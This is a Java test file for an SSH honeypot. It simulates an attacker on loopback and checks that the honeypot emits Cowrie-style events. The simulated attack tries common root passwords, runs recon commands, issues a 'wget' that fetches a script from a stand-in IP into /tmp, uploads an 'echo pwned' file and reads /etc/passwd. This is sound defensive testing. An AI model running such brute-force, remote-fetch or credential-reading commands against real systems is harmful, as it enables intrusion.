package dev.bulwark.deception.ssh;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bulwark.core.testing.Tools;
import dev.bulwark.deception.Honeypot;
import dev.bulwark.deception.OpenSsh;
import dev.bulwark.deception.config.HoneypotConfig;
import dev.bulwark.deception.config.Limits;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SshHoneypotTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  static HoneypotConfig loopback(Path data) {
    return HoneypotConfig.defaults(data).withBind("127.0.0.1").withPorts(0, -1, -1);
  }

  static List<JsonNode> events(Path file) throws Exception {
    List<JsonNode> out = new ArrayList<>();
    for (String l : Files.readAllLines(file)) {
      out.add(JSON.readTree(l));
    }
    return out;
  }

  @Test
  void openSshClient_bruteForcesLogsInRunsCommandsAndUploads_everyStepIsACowrieEvent(
      @TempDir Path dir) throws Exception {
    assumeTrue(OpenSsh.available(), OpenSsh.missing());
    try (Honeypot h = Honeypot.start(loopback(dir))) {
      int port = h.sshPort();
      assertThat(OpenSsh.ssh(port, "root", "123456", "id", null, false).exit()).isNotZero();
      assertThat(OpenSsh.ssh(port, "root", "password", "id", null, false).exit()).isNotZero();
      assertThat(OpenSsh.ssh(port, "root", "admin", "id", null, false).exit()).isNotZero();
      OpenSsh.Result r =
          OpenSsh.ssh(
              port,
              "root",
              "toor",
              "uname -a; id; cat /etc/hostname; wget http://198.51.100.7/x.sh -O /tmp/x.sh",
              null,
              false);
      assertThat(r.out())
          .as(
              r.exit()
                  + " "
                  + r.err()
                  + String.join("\n", Files.readAllLines(dir.resolve("events.json"))))
          .contains(
              "Linux web01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux")
          .contains("uid=0(root) gid=0(root) groups=0(root)")
          .contains("web01");
      Path payload = dir.resolve("payload.bin");
      Files.writeString(payload, "#!/bin/sh\necho pwned\n");
      OpenSsh.Result up =
          OpenSsh.sftp(port, "root", "toor", "put " + payload + " /tmp/payload.bin\nls /tmp\n");
      assertThat(up.exit()).as(up.err()).isZero();
      assertThat(up.out()).contains("payload.bin");
      OpenSsh.Result shell =
          OpenSsh.ssh(port, "root", "toor", null, "cd /etc\npwd\ncat passwd\nexit\n", false);
      assertThat(shell.out()).contains("/etc\n").contains("root:x:0:0:root:/root:/bin/bash");
    }
    List<JsonNode> ev = events(dir.resolve("events.json"));
    List<String> ids = ev.stream().map(e -> e.get("eventid").asText()).toList();
    assertThat(ids)
        .contains(
            "cowrie.session.connect",
            "cowrie.client.version",
            "cowrie.client.kex",
            "cowrie.login.failed",
            "cowrie.login.success",
            "cowrie.command.input",
            "cowrie.session.file_download",
            "cowrie.session.file_upload",
            "cowrie.log.closed",
            "cowrie.session.closed");
    JsonNode upload =
        ev.stream()
            .filter(e -> e.get("eventid").asText().equals("cowrie.session.file_upload"))
            .findFirst()
            .orElseThrow();
    Path stored = Path.of(upload.get("outfile").asText());
    assertThat(stored).startsWith(dir).hasContent("#!/bin/sh\necho pwned");
    assertThat(Files.isExecutable(stored)).isFalse();
    assertThat(upload.get("shasum").asText()).hasSize(64);
    JsonNode dl =
        ev.stream()
            .filter(e -> e.get("eventid").asText().equals("cowrie.session.file_download"))
            .findFirst()
            .orElseThrow();
    assertThat(dl.get("url").asText()).isEqualTo("http://198.51.100.7/x.sh");
    assertThat(dl.get("src_ip").asText()).isEqualTo("127.0.0.1");
    assertThat(ev)
        .allSatisfy(
            e -> assertThat(e.has("session") && e.has("timestamp") && e.has("src_ip")).isTrue());
  }

  @Test
  void aBurstOfConnectionsBeyondJavasDefaultBacklog_isEveryOneGreeted(@TempDir Path dir)
      throws Exception {
    int burst = 400;
    Limits d = Limits.defaults();
    Limits wide =
        new Limits(
            1024,
            1024,
            d.maxSessionsPerConnection(),
            d.maxInputBytes(),
            d.maxDuration(),
            d.idleTimeout(),
            d.maxUploadBytes(),
            d.maxFsBytes(),
            d.maxLineLength());
    try (Honeypot h = Honeypot.start(loopback(dir).withLimits(wide))) {
      // the listen queue is what decides whether a burst is reset before it is seen: Java's default
      // of 50 greeted these 400 only through the kernel's SYN retries (17 s instead of 4)
      Optional<Path> ss = Tools.onPath("ss");
      if (ss.isPresent()) {
        assertThat(listenBacklog(ss.get(), h.sshPort())).isEqualTo(1024);
      }
      List<Socket> open = new ArrayList<>();
      try {
        // connect all first, read afterwards: the kernel's accept queue has to hold the burst
        for (int i = 0; i < burst; i++) {
          Socket s = new Socket();
          s.connect(new InetSocketAddress("127.0.0.1", h.sshPort()), 10_000);
          s.setSoTimeout(30_000);
          open.add(s);
        }
        int greeted = 0;
        for (Socket s : open) {
          String line =
              new BufferedReader(
                      new InputStreamReader(s.getInputStream(), StandardCharsets.US_ASCII))
                  .readLine();
          if ("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10".equals(line)) {
            greeted++;
          }
        }
        assertThat(greeted).isEqualTo(burst);
      } finally {
        for (Socket s : open) {
          s.close();
        }
      }
    }
  }

  /** The accept-queue size of the listening socket on {@code port}, as {@code ss -ltn} shows it. */
  private static int listenBacklog(Path ss, int port) throws Exception {
    Process p = new ProcessBuilder(ss.toString(), "-Hltn", "sport = :" + port).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
    assertThat(p.waitFor()).isZero();
    return Integer.parseInt(out.split("\\s+")[2]);
  }
}
